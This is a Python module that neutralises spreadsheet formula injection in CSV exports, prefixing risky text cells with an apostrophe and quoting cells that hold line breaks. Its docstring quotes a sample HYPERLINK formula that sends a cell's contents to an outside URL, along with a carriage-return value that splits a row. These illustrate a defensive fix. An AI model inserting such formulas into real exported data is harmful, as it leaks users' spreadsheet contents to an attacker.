"""CSV that spreadsheets read as data, never as formulas (every CSV the app and the CLI write).

A spreadsheet program evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some treat a leading tab or carriage return the same way; a sweep spec or an
uploaded column name can put such text into an exported table (``=HYPERLINK("http://…?leak="
&A1, "click")`` in a results CSV). The usual rule is applied: such a text cell gets a leading
apostrophe (``'=HYPERLINK(…)``), which spreadsheets show as the literal text.

A carriage return or line feed inside a text cell would end the row for many CSV readers
(Python's csv module quotes a field with a line feed but not one with a bare carriage return
when rows end in ``\n``, so ``"\r=2+2"`` started a new row whose first cell was ``=2+2``):
rows end in ``\r\n`` (RFC 4180), so every cell holding either character is quoted and read
back as one cell.

Numbers are left as they are. A numeric cell (int, float, bool, NumPy numbers) is written as
the number — ``-0.5`` stays the number −0.5, NaN stays empty —, and a text cell that is itself a
plain decimal number (``"-0.5"``, ``"+3"``, ``"1e-6"``: what `float` parses, nothing else) is
also left alone: it cannot hold a function call, and a spreadsheet reads it as that number.
Column names are text cells like any other.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet cell a formula (or may)."""
LINE_END = "\r\n"  # RFC 4180: a cell holding CR or LF is then always quoted
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def inert_text(value: str) -> str:
    """`value` with a leading apostrophe when a spreadsheet would evaluate it (see the module
    docstring); a plain number written as text is returned unchanged."""
    if value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


def inert_cell(value: Any) -> Any:
    """A table cell made inert: text through `inert_text`, anything else (numbers, None, NaN)
    unchanged."""
    return inert_text(value) if isinstance(value, str) else value


def inert_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` with every text cell and column name inert (numeric columns untouched)."""
    out = df.copy()
    for col in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])):
            out[col] = out[col].map(inert_cell)
    out.columns = [inert_cell(c) for c in out.columns]
    return out


def csv_bytes(df: pd.DataFrame, *, bom: bool = False) -> bytes:
    """`df` as inert UTF-8 CSV (no index; rows end in CR LF, so a cell with either is quoted);
    with `bom`, a byte-order mark first, so spreadsheet programs read the Unicode."""
    return inert_frame(df).to_csv(index=False, lineterminator=LINE_END).encode(
        "utf-8-sig" if bom else "utf-8")


__all__ = ["TRIGGERS", "csv_bytes", "inert_cell", "inert_frame", "inert_text"]
